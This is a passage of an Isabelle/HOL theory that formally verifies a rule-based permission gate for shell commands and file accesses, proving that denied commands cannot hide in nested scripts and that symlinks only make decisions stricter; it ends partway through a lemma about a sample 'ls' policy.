  "evaluate_lexical_with_cwd E (CompiledPolicy_new E c) access cwd =
     (case find (\<lambda>r. action r = RuleAction.Deny \<and> rule_matches E access cwd r) (rules c) of
        Some r \<Rightarrow> Some (Decision.Reject (deny_reason r))
      | None \<Rightarrow>
          if \<exists>r \<in> set (rules c). action r = RuleAction.Ask \<and> rule_matches E access cwd r then Some Decision.Ask
          else if (case access of
                     AccessKind.Bash cmd \<Rightarrow>
                       bash_chain_fully_allowed E (CompiledPolicy_new E c) AnyRule MAX_INLINE_SHELL_DEPTH cmd
                   | _ \<Rightarrow> \<exists>r \<in> set (rules c). action r = RuleAction.Allow \<and> rule_matches E access cwd r)
          then Some Decision.Allow else None)"
  using allowed_chain_has_rule [of E c AnyRule MAX_INLINE_SHELL_DEPTH]
  by (auto simp: evaluate_lexical_with_cwd_def scan_rules_spec simp del: CompiledPolicy_new_simps(4)
      split: option.split AccessKind.split)

text \<open>
  C25: An access is decided by the rules that match it and nothing else: the first matching deny rule
  rejects it and is named in the reason; otherwise any matching ask rule asks; otherwise a Bash script
  is allowed exactly when all of it is allowed, any other access when an allow rule matches; and
  otherwise the policy is silent. The flag that skips the Bash test changes no answer.
\<close>

theorem policy_verdict:
  "evaluate_lexical_with_cwd E (CompiledPolicy_new E c) access cwd =
     (case find (\<lambda>r. action r = RuleAction.Deny \<and> rule_matches E access cwd r) (rules c) of
        Some r \<Rightarrow> Some (Decision.Reject (deny_reason r))
      | None \<Rightarrow>
          if \<exists>r \<in> set (rules c). action r = RuleAction.Ask \<and> rule_matches E access cwd r then Some Decision.Ask
          else if (case access of
                     AccessKind.Bash cmd \<Rightarrow>
                       bash_chain_fully_allowed E (CompiledPolicy_new E c) AnyRule MAX_INLINE_SHELL_DEPTH cmd
                   | _ \<Rightarrow> \<exists>r \<in> set (rules c). action r = RuleAction.Allow \<and> rule_matches E access cwd r)
          then Some Decision.Allow else None)"
  by (rule lexical_verdict)

subsection \<open>The scripts a script runs\<close>

text \<open>The script that a command hands to a shell with \<open>-c\<close>, and that or the one it hands to \<open>env -S\<close>.\<close>

definition inline_script :: "str list \<Rightarrow> str \<Rightarrow> bool" where
  "inline_script ws u \<longleftrightarrow>
     (let inner = peel_words (normalize_command_words ws)
      in \<exists>k. shell_dash_c_script (map ShellWord.Literal inner) = InlineShellScript.Literal k \<and> u = inner ! k)"

definition hands_over :: "str list \<Rightarrow> str \<Rightarrow> bool" where
  "hands_over ws u \<longleftrightarrow>
     inline_script ws u \<or> env_split_string_script (peel_words (normalize_command_words ws)) = Some u"

text \<open>
  \<open>runs_script E H n s m t\<close>: running \<open>s\<close> with a budget of \<open>n\<close> nested scripts, \<open>t\<close> is run with \<open>m\<close> left,
  where \<open>H\<close> says which scripts a command hands over.
\<close>

inductive runs_script ::
  "('g, 'v) policy_env \<Rightarrow> (str list \<Rightarrow> str \<Rightarrow> bool) \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> bool" for E H n s where
  itself: "runs_script E H n s n s"
| nested: "runs_script E H n s (Suc m) t \<Longrightarrow> all_commands_from_script (try_parse_shell E) t = Some cs \<Longrightarrow>
    c \<in> set cs \<Longrightarrow> H (words c) u \<Longrightarrow> runs_script E H n s m u"

fun rank_option :: "GateDecision option \<Rightarrow> nat" where
  "rank_option None = 0"
| "rank_option (Some d) = gate_rank d"

lemma rank_combine [simp]: "rank_option (combine_gate_decisions a b) = max (rank_option a) (rank_option b)"
  by (cases a; cases b) (auto simp: combine_gate_decisions_def)

lemma rank_option_le3: "rank_option d \<le> 3"
  by (cases d; cases "the d") simp_all

lemma rank_option_eq_3: "rank_option d = 3 \<longleftrightarrow> (\<exists>r. d = Some (GateDecision.Reject r))"
  by (cases d; cases "the d") auto

lemma rank_option_eq_0: "rank_option d = 0 \<longleftrightarrow> d = None"
  by (cases d; cases "the d") auto

lemma rank_foldl_le_iff:
  "rank_option (foldl (\<lambda>d x. combine_gate_decisions d (f x)) d xs) \<le> m \<longleftrightarrow>
     rank_option d \<le> m \<and> (\<forall>x \<in> set xs. rank_option (f x) \<le> m)"
  by (induction xs arbitrary: d) auto

lemmas rank_foldl_upper = rank_foldl_le_iff [THEN iffD1, OF order_refl]

lemma rank_own_words_le: "rank_option (evaluate_own_words E P ws) \<le> rank_option (evaluate_command_words E P deeper ws)"
  by (auto simp: evaluate_command_words_def Let_def split: InlineShellScript.split option.split)

lemma rank_command:
  assumes "all_commands_from_script (try_parse_shell E) script = Some cs" "c \<in> set cs"
  shows "rank_option (evaluate_command_words E P deeper (words c)) \<le> rank_option (evaluate_segments E P deeper script)"
  using assms rank_foldl_upper [where f = "\<lambda>parsed. evaluate_command_words E P deeper (words parsed)" and d = None and xs = cs]
  by (simp add: evaluate_segments_def)

lemma rank_handed_over:
  assumes "hands_over ws u"
  shows "rank_option (f u) \<le> rank_option (evaluate_command_words E P (Some f) ws)"
    and "1 \<le> rank_option (evaluate_command_words E P None ws)"
  using assms
  by (auto simp: hands_over_def inline_script_def evaluate_command_words_def Let_def split: option.split)

lemma segments_cases:
  obtains deeper where "evaluate_bash_command_segments E P m t = evaluate_segments E P deeper t"
  by (cases m) auto

lemma rank_command_own:
  assumes "all_commands_from_script (try_parse_shell E) t = Some cs" "c \<in> set cs"
  shows "rank_option (evaluate_own_words E P (words c)) \<le> rank_option (evaluate_bash_command_segments E P m t)"
  using segments_cases [of E P m t] rank_command [OF assms, of P] rank_own_words_le [of E P "words c"]
  by (metis order_trans)

lemma rank_runs_script:
  assumes "runs_script E hands_over n s m t"
  shows "rank_option (evaluate_bash_command_segments E P m t) \<le> rank_option (evaluate_bash_command_segments E P n s)"
  using assms
proof induction
  case (nested m t cs c u)
  let ?f = "evaluate_bash_command_segments E P m"
  have "rank_option (?f u) \<le> rank_option (evaluate_command_words E P (Some ?f) (words c))"
    using nested by (intro rank_handed_over)
  also have "\<dots> \<le> rank_option (evaluate_bash_command_segments E P (Suc m) t)"
    using rank_command [OF nested.hyps(2, 3)] by simp
  finally show ?case using nested.IH by simp
qed simp

lemma rank_own_forms:
  "rank_option (escalate E P (join (lit '' '') ws)) \<le> rank_option (evaluate_own_words E P ws)"
  "rank_option (escalate E P (join (lit '' '') (peel_words (normalize_command_words ws)))) \<le>
     rank_option (evaluate_own_words E P ws)"
proof -
  have same: "peel_words (normalize_command_words ws) = ws"
    if "length (peel_words (normalize_command_words ws)) = length ws"
    using that normalize_command_words_suffix suffix_same_length by blast
  show "rank_option (escalate E P (join (lit '' '') ws)) \<le> rank_option (evaluate_own_words E P ws)"
    by (simp add: evaluate_own_words_def Let_def le_max_iff_disj)
  then show "rank_option (escalate E P (join (lit '' '') (peel_words (normalize_command_words ws)))) \<le>
      rank_option (evaluate_own_words E P ws)"
    using same by (cases "length (peel_words (normalize_command_words ws)) = length ws")
      (simp_all add: evaluate_own_words_def Let_def le_max_iff_disj)
qed

text \<open>The two spellings under which a command is put to the rules: as written, and peeled.\<close>

definition command_forms :: "str list \<Rightarrow> str list" where
  "command_forms ws = map (join (lit '' '')) [ws, peel_words (normalize_command_words ws)]"

lemma rank_own_form: "seg \<in> set (command_forms ws) \<Longrightarrow> rank_option (escalate E P seg) \<le> rank_option (evaluate_own_words E P ws)"
  using rank_own_forms [where ws = ws] by (auto simp: command_forms_def)

lemma evaluate_Bash: "evaluate E P (AccessKind.Bash cmd) = evaluate_lexical_with_cwd E P (AccessKind.Bash cmd) None"
  by (simp add: evaluate_def evaluate_with_cwd_def evaluate_with_cwd_details_def Let_def)

lemma unrestricted_never_escalates:
  assumes "\<not> has_bash_command_restrictions (CompiledPolicy_new E c)"
  shows "escalate E (CompiledPolicy_new E c) seg = None"
proof -
  have "\<not> rule_matches E (AccessKind.Bash seg) None r" if "r \<in> set (rules c)" "restricts (action r)" for r
    using assms that by (cases "tool r") (auto simp: rule_matches_def bash_or_any_def)
  then have "find (\<lambda>r. action r = RuleAction.Deny \<and> rule_matches E (AccessKind.Bash seg) None r) (rules c) = None"
    and "\<not> (\<exists>r \<in> set (rules c). action r = RuleAction.Ask \<and> rule_matches E (AccessKind.Bash seg) None r)"
    by (auto simp: find_None_iff restricts_def)
  then show ?thesis
    by (simp add: escalate_def evaluate_Bash evaluate_lexical_with_cwd_def scan_rules_spec)
qed

text \<open>
  C1: A command denied by a rule cannot be hidden in a script: if any command that the script runs,
  directly or through up to eight nested \<open>sh -c\<close> and \<open>env -S\<close> scripts, is denied as written or
  after its wrappers are peeled, the gate rejects the whole script.
\<close>

theorem denied_command_is_rejected:
  assumes "runs_script E hands_over MAX_INLINE_SHELL_DEPTH script m t"
    and "all_commands_from_script (try_parse_shell E) t = Some cs" "c \<in> set cs"
    and "seg \<in> set (command_forms (words c))"
    and "evaluate E (CompiledPolicy_new E cfg) (AccessKind.Bash seg) = Some (Decision.Reject reason)"
  shows "\<exists>r. evaluate_bash_command_gate E (CompiledPolicy_new E cfg) script = Some (GateDecision.Reject r)"
proof -
  let ?P = "CompiledPolicy_new E cfg"
  have esc: "escalate E ?P seg = Some (GateDecision.Reject reason)" using assms(5) by (simp add: escalate_def)
  then have flag: "has_bash_command_restrictions ?P" using unrestricted_never_escalates [of E cfg seg] by fastforce
  have "3 \<le> rank_option (evaluate_bash_command_segments E ?P MAX_INLINE_SHELL_DEPTH script)"
    using esc rank_runs_script [OF assms(1), of ?P] rank_own_form [OF assms(4), of E ?P]
      rank_command_own [OF assms(2, 3), of ?P m] by simp
  then have "rank_option (evaluate_bash_command_segments E ?P MAX_INLINE_SHELL_DEPTH script) = 3"
    using rank_option_le3 order_antisym by blast
  with flag show ?thesis by (simp add: evaluate_bash_command_gate_def rank_option_eq_3 del: CompiledPolicy_new_simps)
qed

lemma lexical_decisions:
  "evaluate_lexical_with_cwd E P access cwd = Some d \<Longrightarrow> d = Decision.Allow \<or> d = Decision.Ask \<or> (\<exists>r. d = Decision.Reject r)"
  by (auto simp: evaluate_lexical_with_cwd_def split: sum.splits prod.splits if_splits AccessKind.splits)

lemma escalate_None_iff:
  "escalate E P seg = None \<longleftrightarrow>
     evaluate E P (AccessKind.Bash seg) = None \<or> evaluate E P (AccessKind.Bash seg) = Some Decision.Allow"
  using lexical_decisions [of E P "AccessKind.Bash seg" None]
  by (cases "evaluate E P (AccessKind.Bash seg)") (auto simp: escalate_def evaluate_Bash)

lemma combine_None [simp]: "combine_gate_decisions a b = None \<longleftrightarrow> a = None \<and> b = None"
  by (simp flip: rank_option_eq_0)

lemma combine_Some [simp]: "(\<exists>d. combine_gate_decisions a b = Some d) \<longleftrightarrow> a \<noteq> None \<or> b \<noteq> None"
  using combine_None [of a b] by (metis option.collapse option.distinct(1))

lemma foldl_combine_None:
  "foldl (\<lambda>d x. combine_gate_decisions d (f x)) d xs = None \<longleftrightarrow> d = None \<and> (\<forall>x \<in> set xs. f x = None)"
  by (induction xs arbitrary: d) auto

lemma own_words_None:
  "evaluate_own_words E P ws = None \<longleftrightarrow>
     cleanly_peeled (normalize_command_words ws) \<and> (\<forall>seg \<in> set (command_forms ws). escalate E P seg = None)"
proof -
  have "peel_words (normalize_command_words ws) = ws" if "length (peel_words (normalize_command_words ws)) = length ws"
    using that normalize_command_words_suffix suffix_same_length by blast
  then show ?thesis
    by (auto simp: evaluate_own_words_def Let_def command_forms_def cleanly_peeled_def foldl_combine_None)
qed

text \<open>
  A command in a script with \<open>m\<close> nested scripts left: peeled without a warning, neither denied nor to be
  asked about under either spelling, with options of a shell that are understood, and handing over a
  script only while some are left.
\<close>

definition clean_command :: "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> nat \<Rightarrow> str list \<Rightarrow> bool" where
  "clean_command E P m ws \<longleftrightarrow>
     cleanly_peeled (normalize_command_words ws) \<and>
     (\<forall>seg \<in> set (command_forms ws). evaluate E P (AccessKind.Bash seg) \<in> {None, Some Decision.Allow}) \<and>
     shell_dash_c_script (map ShellWord.Literal (peel_words (normalize_command_words ws))) \<notin>
       {InlineShellScript.Untrusted, Unrecognized} \<and>
     (m = 0 \<longrightarrow> (\<nexists>u. hands_over ws u))"

definition clean_script :: "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> bool" where
  "clean_script E P m t =
     (case all_commands_from_script (try_parse_shell E) t of
        None \<Rightarrow> False
      | Some cs \<Rightarrow> \<forall>c \<in> set cs. clean_command E P m (words c))"

lemma command_words_None:
  assumes "m = 0 \<longleftrightarrow> deeper = None"
  shows "evaluate_command_words E (CompiledPolicy_new E cfg) deeper ws = None \<longleftrightarrow>
     clean_command E (CompiledPolicy_new E cfg) m ws \<and> (\<forall>f u. deeper = Some f \<longrightarrow> hands_over ws u \<longrightarrow> f u = None)"
  using assms
  by (cases "shell_dash_c_script (map ShellWord.Literal (peel_words (normalize_command_words ws)))"; cases deeper)
    (auto simp: evaluate_command_words_def Let_def own_words_None clean_command_def hands_over_def inline_script_def
      escalate_None_iff split: option.split)

lemma segments_None:
  "evaluate_bash_command_segments E (CompiledPolicy_new E cfg) m t = None \<longleftrightarrow>
     clean_script E (CompiledPolicy_new E cfg) m t \<and>
     (\<forall>n cs c u. m = Suc n \<longrightarrow> all_commands_from_script (try_parse_shell E) t = Some cs \<longrightarrow> c \<in> set cs \<longrightarrow>
       hands_over (words c) u \<longrightarrow> evaluate_bash_command_segments E (CompiledPolicy_new E cfg) n u = None)"
  by (cases m; cases "all_commands_from_script (try_parse_shell E) t")
    (auto simp: evaluate_segments_def foldl_combine_None command_words_None [of m] clean_script_def
      simp del: CompiledPolicy_new_simps)

lemma runs_script_under:
  assumes "runs_script E H n u m t" and "all_commands_from_script (try_parse_shell E) s = Some cs" "c \<in> set cs" "H (words c) u"
  shows "runs_script E H (Suc n) s m t"
  using assms(1) by induction (auto intro: runs_script.intros assms(2-))

lemma clean_scripts_are_silent:
  assumes "\<And>m t. runs_script E hands_over n s m t \<Longrightarrow> clean_script E (CompiledPolicy_new E cfg) m t"
  shows "evaluate_bash_command_segments E (CompiledPolicy_new E cfg) n s = None"
  using assms
proof (induction n arbitrary: s)
  case 0
  then have "clean_script E (CompiledPolicy_new E cfg) 0 s" using runs_script.itself by blast
  then show ?case by (intro segments_None [THEN iffD2]) simp
next
  case (Suc n)
  have "evaluate_bash_command_segments E (CompiledPolicy_new E cfg) n u = None"
    if "all_commands_from_script (try_parse_shell E) s = Some cs" "c \<in> set cs" "hands_over (words c) u" for cs c u
    using that by (intro Suc.IH Suc.prems runs_script_under)
  moreover have "clean_script E (CompiledPolicy_new E cfg) (Suc n) s" using Suc.prems runs_script.itself by blast
  ultimately show ?case by (intro segments_None [THEN iffD2]) auto
qed

text \<open>
  C26: What it means that the gate has nothing to say although rules restrict Bash: every script that the
  script hands to a shell with \<open>-c\<close> or to \<open>env -S\<close>, as the analysis reads them, was decomposed, and
  every command in all of them was peeled without a warning, is neither denied nor to be asked about
  under either spelling, has no shell options whose script is unknown, and hands over no script at the
  end of the budget; and then, conversely, the gate is silent. So silence is never a failure of an
  analysis that noticed it: an untrusted or unrecognised inline script, a command that does not parse or
  a wrapper that is not understood all make it ask. (A script packed so that the analysis does not notice
  it is not among them: \<open>evasive_command\<close> is such a command.)
\<close>

theorem silent_gate_means_clean:
  assumes "has_bash_command_restrictions (CompiledPolicy_new E cfg)"
  shows "evaluate_bash_command_gate E (CompiledPolicy_new E cfg) script = None \<longleftrightarrow>
    (\<forall>m t. runs_script E hands_over MAX_INLINE_SHELL_DEPTH script m t \<longrightarrow> clean_script E (CompiledPolicy_new E cfg) m t)"
proof -
  let ?P = "CompiledPolicy_new E cfg"
  have gate: "evaluate_bash_command_gate E ?P script = evaluate_bash_command_segments E ?P MAX_INLINE_SHELL_DEPTH script"
    using assms by (simp add: evaluate_bash_command_gate_def del: CompiledPolicy_new_simps)
  have "clean_script E ?P m t"
    if "evaluate_bash_command_segments E ?P MAX_INLINE_SHELL_DEPTH script = None"
      and "runs_script E hands_over MAX_INLINE_SHELL_DEPTH script m t" for m t
  proof -
    have "evaluate_bash_command_segments E ?P m t = None"
      using rank_runs_script [OF that(2), of ?P] that(1) by (simp add: rank_option_eq_0 del: CompiledPolicy_new_simps)
    then show ?thesis by (rule segments_None [THEN iffD1, THEN conjunct1])
  qed
  then show ?thesis unfolding gate using clean_scripts_are_silent by blast
qed

subsection \<open>What is allowed is allowed everywhere\<close>

lemma chain_allowed_commands:
  assumes "bash_chain_fully_allowed E P scope m t"
  shows "\<exists>cs. all_commands_from_script (try_parse_shell E) t = Some cs \<and> cs \<noteq> [] \<and>
    (\<forall>c \<in> set cs. cleanly_peeled (normalize_command_words (words c)) \<and>
       bash_words_allowed E P scope (peel_words (normalize_command_words (words c))) \<and>
       (m = 0 \<longrightarrow> (\<nexists>u. inline_script (words c) u)))"
proof -
  obtain deeper where deeper: "chain_allowed E P scope deeper t" "m = 0 \<Longrightarrow> deeper = None"
    using assms by (cases m) auto
  then show ?thesis
    by (fastforce simp: chain_allowed_def segment_allowed_def cleanly_peeled_def list_all_iff inline_script_def Let_def
        split: option.splits if_splits)
qed

lemma chain_allowed_nested:
  assumes "bash_chain_fully_allowed E P scope (Suc m) t"
    and "all_commands_from_script (try_parse_shell E) t = Some cs" "c \<in> set cs" "inline_script (words c) u"
  shows "bash_chain_fully_allowed E P scope m u"
  using assms by (auto simp: chain_allowed_def segment_allowed_def list_all_iff inline_script_def Let_def split: if_splits)

lemma chain_allowed_runs_script:
  assumes "runs_script E inline_script n s m t" "bash_chain_fully_allowed E P scope n s"
  shows "bash_chain_fully_allowed E P scope m t"
  using assms by (induction) (auto intro: chain_allowed_nested)

text \<open>
  C4: A script is allowed only as a whole: when the policy allows it, every script in it, down to the
  inline scripts of shells, decomposes into at least one command, and every one of these commands was
  peeled without a warning and matches an allow rule by itself. No part is allowed because its
  neighbour is.
\<close>

theorem allowed_script_is_allowed_everywhere:
  assumes "evaluate E (CompiledPolicy_new E cfg) (AccessKind.Bash script) = Some Decision.Allow"
    and "runs_script E inline_script MAX_INLINE_SHELL_DEPTH script m t"
  shows "\<exists>cs. all_commands_from_script (try_parse_shell E) t = Some cs \<and> cs \<noteq> [] \<and>
    (\<forall>c \<in> set cs. cleanly_peeled (normalize_command_words (words c)) \<and>
       (\<exists>r \<in> set (rules cfg). rule_allows_words E AnyRule (peel_words (normalize_command_words (words c))) r) \<and>
       (m = 0 \<longrightarrow> (\<nexists>u. inline_script (words c) u)))"
proof -
  have "bash_chain_fully_allowed E (CompiledPolicy_new E cfg) AnyRule MAX_INLINE_SHELL_DEPTH script"
    using assms(1)
    by (auto simp: evaluate_Bash evaluate_lexical_with_cwd_def split: sum.splits prod.splits if_splits)
  from chain_allowed_commands [OF chain_allowed_runs_script [OF assms(2) this]] show ?thesis
    unfolding bash_words_allowed_iff by blast
qed

text \<open>Narrow rules.\<close>

lemma narrow_words_allowed: "bash_words_allowed E (CompiledPolicy_new E c) NarrowOnly ws \<Longrightarrow> bash_words_allowed E (CompiledPolicy_new E c) AnyRule ws"
  by (auto simp: bash_words_allowed_iff rule_allows_words_def)

lemma segment_allowed_mono:
  assumes "\<And>ws. bash_words_allowed E P a ws \<Longrightarrow> bash_words_allowed E Q b ws" "rel_option (\<le>) deeper deeper'"
    and "segment_allowed E P a deeper ws"
  shows "segment_allowed E Q b deeper' ws"
  using assms(3) assms(1) [of "peel_words (normalize_command_words ws)"] assms(2)
  by (cases deeper; cases deeper') (auto simp: segment_allowed_def Let_def split: if_splits InlineShellScript.splits)

lemma chain_allowed_deeper_mono:
  assumes "\<And>ws. bash_words_allowed E P a ws \<Longrightarrow> bash_words_allowed E Q b ws" "rel_option (\<le>) deeper deeper'"
    and "chain_allowed E P a deeper s"
  shows "chain_allowed E Q b deeper' s"
  using assms(3) segment_allowed_mono [OF assms(1, 2)]
  by (auto simp: chain_allowed_def list_all_iff split: option.splits)

lemma chain_allowed_mono:
  assumes "\<And>ws. bash_words_allowed E P a ws \<Longrightarrow> bash_words_allowed E Q b ws"
  shows "bash_chain_fully_allowed E P a n s \<Longrightarrow> bash_chain_fully_allowed E Q b n s"
proof (induction n arbitrary: s)
  case 0
  then show ?case using chain_allowed_deeper_mono [OF assms, where deeper = None and deeper' = None] by simp
next
  case (Suc n)
  then have "rel_option (\<le>) (Some (bash_chain_fully_allowed E P a n)) (Some (bash_chain_fully_allowed E Q b n))"
    by (auto simp: le_fun_def)
  from chain_allowed_deeper_mono [OF assms this] Suc.prems show ?case by simp
qed

text \<open>
  A narrow grant is a grant: whatever narrow rules alone authorise, all allow rules together
  authorise too; and it never covers a program that runs code given to it, nor rests on a rule that
  opens everything, in any of the nested scripts.
\<close>

theorem narrow_grants_are_narrow:
  assumes "narrow_allow_authorizes E (CompiledPolicy_new E cfg) (AccessKind.Bash script)"
    and "runs_script E inline_script MAX_INLINE_SHELL_DEPTH script m t"
    and "all_commands_from_script (try_parse_shell E) t = Some cs" "c \<in> set cs"
  shows "bash_chain_fully_allowed E (CompiledPolicy_new E cfg) AnyRule MAX_INLINE_SHELL_DEPTH script \<and>
    \<not> head_is_exec_vehicle (peel_words (normalize_command_words (words c))) \<and>
    (\<exists>r \<in> set (rules cfg). \<not> rule_is_catchall E r \<and>
       rule_allows_words E NarrowOnly (peel_words (normalize_command_words (words c))) r)"
proof -
  have narrow: "bash_chain_fully_allowed E (CompiledPolicy_new E cfg) NarrowOnly MAX_INLINE_SHELL_DEPTH script"
    using assms(1) by (simp add: narrow_allow_authorizes_def)
  then have "bash_words_allowed E (CompiledPolicy_new E cfg) NarrowOnly (peel_words (normalize_command_words (words c)))"
    using chain_allowed_commands [OF chain_allowed_runs_script [OF assms(2) narrow]] assms(3, 4) by auto
  then show ?thesis
    using chain_allowed_mono [OF narrow_words_allowed narrow]
    by (auto simp: bash_words_allowed_iff rule_allows_words_def)
qed

text \<open>
  The order of the rules does not matter: two configurations with the same rules give every access
  the same kind of answer. Only the reason of a rejection, which names the first deny rule that
  matched, may differ.
\<close>

theorem rule_order_is_irrelevant:
  assumes "set (rules c) = set (rules d)"
  shows "map_option decision_rank (evaluate_lexical_with_cwd E (CompiledPolicy_new E c) access cwd) =
         map_option decision_rank (evaluate_lexical_with_cwd E (CompiledPolicy_new E d) access cwd)"
proof -
  have "bash_words_allowed E (CompiledPolicy_new E c) AnyRule ws \<longleftrightarrow> bash_words_allowed E (CompiledPolicy_new E d) AnyRule ws" for ws
    using assms by (simp add: bash_words_allowed_iff)
  then have chain: "bash_chain_fully_allowed E (CompiledPolicy_new E c) AnyRule n s \<longleftrightarrow>
      bash_chain_fully_allowed E (CompiledPolicy_new E d) AnyRule n s" for n s
    using chain_allowed_mono [of E "CompiledPolicy_new E c" AnyRule "CompiledPolicy_new E d" AnyRule]
      chain_allowed_mono [of E "CompiledPolicy_new E d" AnyRule "CompiledPolicy_new E c" AnyRule] by blast
  let ?deny = "\<lambda>r. action r = RuleAction.Deny \<and> rule_matches E access cwd r"
  have "find ?deny (rules c) = None \<longleftrightarrow> find ?deny (rules d) = None"
    using assms by (simp add: find_None_iff)
  then show ?thesis
    unfolding lexical_verdict chain assms
    by (cases "find ?deny (rules c)"; cases "find ?deny (rules d)") simp_all
qed

subsection \<open>Symbolic links only escalate\<close>

fun decision_rank_option :: "Decision option \<Rightarrow> nat" where
  "decision_rank_option None = 0"
| "decision_rank_option (Some d) = decision_rank d"

lemma rank_combine_decisions:
  "decision_rank_option (combine_decisions a b) = max (decision_rank_option a) (decision_rank_option b)"
  by (cases a; cases b) (auto simp: combine_decisions_def)

lemma combine_decisions_Allow:
  "combine_decisions a b = Some Decision.Allow \<Longrightarrow> b \<noteq> Some Decision.Allow \<Longrightarrow> a = Some Decision.Allow"
  by (cases a; cases b) (auto simp: combine_decisions_def split: if_splits)

text \<open>What following the links of an access adds to its lexical decision.\<close>

definition symlink_target :: "('g, 'v) policy_env \<Rightarrow> 'v AccessKind \<Rightarrow> str option \<Rightarrow> str option" where
  "symlink_target E access cwd =
     do {
       p \<leftarrow> native_file_path access;
       raw \<leftarrow> raw_absolute_tool_path p cwd;
       (case follow_absolute_symlink E raw (path_match_string (absolute_normalized_path p cwd)) of
          Target t \<Rightarrow> Some t | _ \<Rightarrow> None)
     }"

lemma evaluate_with_cwd_extra:
  "\<exists>extra. evaluate_with_cwd E P access cwd = combine_decisions (evaluate_lexical_with_cwd E P access cwd) extra \<and>
     extra \<noteq> Some Decision.Allow \<and>
     (\<forall>t d. symlink_target E access cwd = Some t \<and> evaluate_lexical_with_cwd E P (access_with_path access t) cwd = Some d \<and>
        d \<noteq> Decision.Allow \<longrightarrow> extra = Some d)"
proof -
  have none: "combine_decisions a None = a" for a by (cases a) (simp_all add: combine_decisions_def)
  show ?thesis
  proof (cases "symlink_target E access cwd")
    case None
    then show ?thesis
      by (auto simp: symlink_target_def evaluate_with_cwd_def evaluate_with_cwd_details_def Let_def none
          intro: exI [of _ None] exI [of _ "Some Decision.Ask"] split: option.splits SymlinkFollow.splits)
  next
    case (Some t)
    let ?d = "evaluate_lexical_with_cwd E P (access_with_path access t) cwd"
    let ?extra = "if ?d = Some Decision.Allow then None else ?d"
    have "evaluate_with_cwd E P access cwd = combine_decisions (evaluate_lexical_with_cwd E P access cwd) ?extra"
      using Some lexical_decisions [of E P "access_with_path access t" cwd]
      by (auto simp: symlink_target_def evaluate_with_cwd_def evaluate_with_cwd_details_def Let_def
          split: option.splits SymlinkFollow.splits Decision.splits)
    with Some show ?thesis by (intro exI [of _ ?extra]) auto
  qed
qed

text \<open>
  C27: Following the symbolic links of a path can only make a decision stricter: an access is never
  allowed because of where a link points, and when the rules reject the target or ask about it, the
  access is treated at least that strictly.
\<close>

theorem symlinks_only_escalate:
  "decision_rank_option (evaluate_lexical_with_cwd E P access cwd) \<le> decision_rank_option (evaluate_with_cwd E P access cwd) \<and>
   (evaluate_with_cwd E P access cwd = Some Decision.Allow \<longrightarrow> evaluate_lexical_with_cwd E P access cwd = Some Decision.Allow) \<and>
   (\<forall>t d. symlink_target E access cwd = Some t \<and> evaluate_lexical_with_cwd E P (access_with_path access t) cwd = Some d \<and>
      d \<noteq> Decision.Allow \<longrightarrow> decision_rank d \<le> decision_rank_option (evaluate_with_cwd E P access cwd))"
proof -
  obtain extra where eval: "evaluate_with_cwd E P access cwd = combine_decisions (evaluate_lexical_with_cwd E P access cwd) extra"
    and extra: "extra \<noteq> Some Decision.Allow"
      "\<And>t d. symlink_target E access cwd = Some t \<Longrightarrow> evaluate_lexical_with_cwd E P (access_with_path access t) cwd = Some d \<Longrightarrow>
        d \<noteq> Decision.Allow \<Longrightarrow> extra = Some d"
    using evaluate_with_cwd_extra [of E P access cwd] by blast
  show ?thesis
    unfolding eval using combine_decisions_Allow [OF _ extra(1)] extra(2)
    by (fastforce simp: rank_combine_decisions)
qed

subsection \<open>A concrete policy\<close>

text \<open>
  Exact globs, a shell grammar that knows one script, and a file system with one link; a policy of one
  rule. The theorems above are applied to them.
\<close>

definition sample_env :: "(str, unit) policy_env" where
  "sample_env =
     \<lparr>glob_new = Some, glob_matches_with = (\<lambda>g s _. g = s), url_host = (\<lambda>_. None), to_lowercase = id, null_value = (),
      try_parse_shell = (\<lambda>s. if s = lit ''ls'' then Some sample_tree else None),
      fs_canonicalize = (\<lambda>p. Some (if p = lit ''/w/link'' then lit ''/etc/x'' else p)),
      fs_symlink_metadata = (\<lambda>p. if p = lit ''/w/link'' then Symlink else NoSymlink),
      fs_read_link = (\<lambda>p. None)\<rparr>"

definition sample_rule :: "RuleAction \<Rightarrow> ToolFilter \<Rightarrow> str \<Rightarrow> PermissionConfig" where
  "sample_rule act f pat =
     PermissionConfig_new [\<lparr>action = act, tool = f, pattern = Some pat, pattern_mode = Glob\<rparr>]"

abbreviation sample_policy :: "RuleAction \<Rightarrow> ToolFilter \<Rightarrow> str \<Rightarrow> str CompiledPolicy" where
  "sample_policy act f pat \<equiv> CompiledPolicy_new sample_env (sample_rule act f pat)"

abbreviation ls_command :: PlainCommand where
  "ls_command \<equiv> \<lparr>words = [lit ''ls''], span_start = 0, span_end = 2\<rparr>"

lemma sample_commands: "all_commands_from_script (try_parse_shell sample_env) (lit ''ls'') = Some [ls_command]"
  by code_simp

lemma sample_forms: "command_forms (words ls_command) = [lit ''ls'', lit ''ls'']"
  by code_simp

lemma sample_peel:
  "cleanly_peeled (normalize_command_words [lit ''ls''])" "peel_words (normalize_command_words [lit ''ls'']) = [lit ''ls'']"
  by code_simp+

lemma sample_not_inline:
  "shell_dash_c_script (map ShellWord.Literal [lit ''ls'']) = NotInline" "env_split_string_script [lit ''ls''] = None"
  by code_simp+

lemma sample_chain_allowed:
  assumes "bash_words_allowed sample_env P scope [lit ''ls'']"
  shows "bash_chain_fully_allowed sample_env P scope n (lit ''ls'')"
  using assms sample_peel sample_not_inline
  by (cases n) (simp_all add: chain_allowed_def sample_commands segment_allowed_def Let_def cleanly_peeled_def del: lit_Cons)

lemma sample_rules [simp]:
  "rules (sample_rule act f pat) = [\<lparr>action = act, tool = f, pattern = Some pat, pattern_mode = Glob\<rparr>]"
  by (simp add: sample_rule_def PermissionConfig_new_def)

lemma sample_vehicle: "\<not> head_is_exec_vehicle [lit ''ls'']"
  by (simp add: head_is_exec_vehicle_def normalized_command_head_def basename_def rsplit_first_def to_ascii_lowercase_def
      strip_suffix_def strip_prefix_def word_in_def EXEC_VEHICLE_HEADS_def EXEC_VEHICLE_HEAD_FAMILIES_def)

lemma sample_not_catchall:
  "\<not> rule_is_catchall sample_env \<lparr>action = RuleAction.Allow, tool = ToolFilter.Bash, pattern = Some (lit ''ls''), pattern_mode = Glob\<rparr>"
